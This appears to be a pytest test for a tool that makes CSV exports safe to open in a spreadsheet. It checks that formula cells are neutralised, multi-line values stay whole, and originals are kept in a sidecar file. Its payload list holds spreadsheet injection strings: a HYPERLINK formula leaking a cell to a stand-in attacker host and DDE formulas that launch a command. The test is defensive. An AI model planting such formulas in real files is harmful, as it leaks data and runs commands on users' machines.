"""Cleaned CSV copies are safe to open in a spreadsheet: no cell starts a formula, no value with a line
break starts a row of its own, and the original values stay available beside the copy."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import orjson
from hostile_output_helpers import QUICK, check, check_contained, run

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "line one\n=1+1",
]


def test_cleaned_csv_neutralises_formulas_and_keeps_originals(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    rows = [["date", "sender", "recipients", "subject", "verdict"]]
    for n, payload in enumerate(PAYLOADS):
        rows.append([f"2023-03-01T10:0{n}:00Z", f"x{n}@evil.example", "bob@corp.example", payload, "phish"])
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    (work / "mail.csv").write_text(buffer.getvalue())
    args = ("run", "mail.csv", "--out", "out", "--profile", "full", *QUICK)
    result = run(*args, cwd=work, tmpdir=tmp_path / "tmp")
    check(result, codes={0})
    cleaned = work / "out" / "cleaned" / "mail.csv"
    text = cleaned.read_text()
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == len(rows)  # every entry one record: no row split at a line break
    for record in parsed[1:]:
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in record), record
    subjects = [record[3] for record in parsed[1:]]
    assert subjects[-1] == "line one\n=1+1"  # quoted, whole, and starting with text
    sidecar = cleaned.parent / "mail.csv.originals.jsonl"
    originals = [orjson.loads(line) for line in sidecar.read_bytes().splitlines()]
    assert {o["value"] for o in originals} == set(PAYLOADS[:-1])
    assert all(o["column"] == "subject" for o in originals)
    for original in originals:
        assert "'" + original["value"] in subjects
    check_contained(work, {"mail.csv", "out"}, tmp_path / "tmp")
